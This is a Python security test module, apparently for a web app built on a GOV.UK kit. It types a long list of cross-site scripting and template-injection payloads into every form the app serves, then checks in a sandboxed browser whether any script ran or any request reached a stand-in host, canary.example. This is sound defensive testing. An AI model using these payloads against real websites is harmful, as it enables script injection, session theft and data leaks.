"""Texts that run where they are not escaped, a walk that types them into every form, and a browser that looks."""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from playwright.sync_api import Error

from polias.kit.govuk.wiring import STATIC_DIRS
from tests.i18n import walk

RAN = "window.ran=1"
CANARY = "canary.example"

#: Each does one of: set a flag, ask for the canary, open a dialog. Together they try every place a text can stand in.
VECTORS = (
    f"<script>{RAN}</script>", f"</textarea><script>{RAN}</script>", f"</title><script>{RAN}</script>",
    f"--><script>{RAN}</script>", f"<ScRiPt>{RAN}</ScRiPt>", f"<script src=//{CANARY}/a.js></script>",
    f"<script/x>{RAN}</script>", f"<scr<script>ipt>{RAN}</scr</script>ipt>", f"<svg><script>{RAN}</script></svg>",
    f"<img src=x onerror={RAN}>", f'"><img src=x onerror={RAN}>', f"'><img src=x onerror={RAN}>",
    f"<img src=//{CANARY}/i.png>", f"<image src=x onerror={RAN}>", f"<svg onload={RAN}>", f"<svg/onload={RAN}//",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>", f"<svg><set onbegin={RAN} attributeName=x>",
    f"<body onload={RAN}>", f"<input autofocus onfocus={RAN}>", f'" autofocus onfocus="{RAN}', f"' onfocus='{RAN}' x='",
    f'" onmouseover="{RAN}" x="', f"<select autofocus onfocus={RAN}>", f"<textarea autofocus onfocus={RAN}>",
    f"<details open ontoggle={RAN}>", f"<video><source onerror={RAN}>", f"<audio src=x onerror={RAN}>",
    f"<video poster=//{CANARY}/p.png>", f"<marquee onstart={RAN}>", f"<iframe src=javascript:parent.{RAN}>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'>", f"<object data=//{CANARY}/o></object>",
    f"<embed src=//{CANARY}/e>", f"<link rel=stylesheet href=//{CANARY}/c.css>",
    f"<style>@import '//{CANARY}/s.css'</style>",
    f"<base href=//{CANARY}/>", f"<meta http-equiv=refresh content='0;url=//{CANARY}/m'>",
    f"<a href=javascript:{RAN}>x</a>", f"javascript:{RAN}", f"<form action=//{CANARY}/f><button>x</button></form>",
    f"<math><mi xlink:href=javascript:{RAN}>x</mi></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<template><script>{RAN}</script></template>", f"&lt;script&gt;{RAN}&lt;/script&gt;", f"\\u003cscript\\u003e{RAN}",
    "{{constructor.constructor('window.ran=1')()}}", "${window.ran=1}", "{% load x %}{{ settings.SECRET_KEY }}",
    f"<x style=animation-name:x onanimationstart={RAN}>", f"<button popovertarget=x onbeforetoggle={RAN} id=x popover>",
    f"\u2028<script>{RAN}</script>", f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e", f"<a\x0conclick={RAN} href=#>x",
)  # fmt: skip

#: What must not stand in a page, whoever wrote it: handlers, scripts without an address, addresses that run, frames.
LOOK = """() => {
  const found = [];
  for (const one of document.querySelectorAll('*')) {
    for (const at of one.attributes) {
      if (/^on/i.test(at.name)) found.push(one.tagName + ' ' + at.name);
      const leads = /^(href|src|action|formaction|data|xlink:href)$/i.test(at.name);
      if (leads && /^\\s*(javascript|vbscript|data:text)/i.test(at.value))
        found.push(one.tagName + ' ' + at.value);
    }
    if (one.tagName === 'SCRIPT' && !one.src && one.type !== 'application/json') found.push('SCRIPT inline');
    if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'MARQUEE'].includes(one.tagName)) found.push(one.tagName);
  }
  if (window.ran) found.push('it ran');
  return found;
}"""


class Poisoned(walk.Walk):
    """A walk whose forms are sent with the texts above, and whose records stay, so that later pages show them."""

    def _sent(self, address: str, form: walk.Form, how: str, again: int = 2) -> Iterator[tuple[str, Any]]:
        way = f"POST {address} {how} {sorted(form.held)} {again}"
        if how == "empty" or not self._is_new(way, most=1):
            return
        answer = self.client.post(address, form.held | (form.answers if how == "filled" else form.others), follow=True)
        if not walk._is_html(answer):
            return
        yield way, answer
        for next_form in walk.read(answer).forms if again else ():
            if next_form.method == "post" and "confirm" in next_form.held:
                yield from self._sent(walk._local(address)(next_form.action) or address, next_form, how, again - 1)


def typing(vectors: Any) -> Any:
    """What stands in for the walk's own way to answer a text: dates stay dates, an empty box gets the next vector."""
    waiting = itertools.cycle(vectors)
    usual = walk._answer

    def answer(name: str, value: str) -> str:
        said = usual(name, value)
        return next(waiting) if said == walk.TYPED else said

    return answer


@dataclass
class Watcher:
    """One page of a browser in which nothing but what was recorded can be loaded, and every sign of running is kept."""

    page: Any
    html: dict[str, tuple[str, str]] = field(default_factory=dict)
    signs: list[str] = field(default_factory=list)
    reports: list[str] = field(default_factory=list)
    now: str = ""

    def __post_init__(self) -> None:
        self.page.route("**/*", self._answer)
        self.page.on("dialog", lambda dialog: (self.signs.append(f"{self.now}: a dialog"), dialog.dismiss()))
        self.page.on("console", self._said)

    def _said(self, message: Any) -> None:
        if re.search(r"Content Security Policy|violates the following|Refused to", message.text):
            self.reports.append(f"{self.now}: {message.text[:200]}")

    def _answer(self, route: Any) -> None:
        url = route.request.url
        if CANARY in url or not url.startswith("http://polias.test/"):
            self.signs.append(f"{self.now}: asks for {url[:100]}")
            return route.abort()
        path = url.removeprefix("http://polias.test").split("?")[0]
        if path in self.html:
            body, policy = self.html[path]
            headers = {"Content-Security-Policy": policy} if policy else {}
            return route.fulfill(body=body, content_type="text/html; charset=utf-8", headers=headers)
        file = STATIC_DIRS[0] / path.removeprefix("/static/")
        if path.startswith("/static/") and file.is_file():
            return route.fulfill(path=str(file))
        return route.fulfill(status=204, body="")

    def look(self, way: str, body: str, policy: str) -> None:
        """Open one recorded page and note whatever ran, loaded or stands in it."""
        self.now, path = way, f"/page/{len(self.html)}"
        self.html[path] = (body, policy)
        try:
            self.page.goto(f"http://polias.test{path}", wait_until="load")
        except Error:
            self.signs.append(f"{way}: it went elsewhere")
        try:
            self.signs += [f"{way}: {sign}" for sign in self.page.evaluate(LOOK)]
        except Error:
            self.signs.append(f"{way}: it went elsewhere")
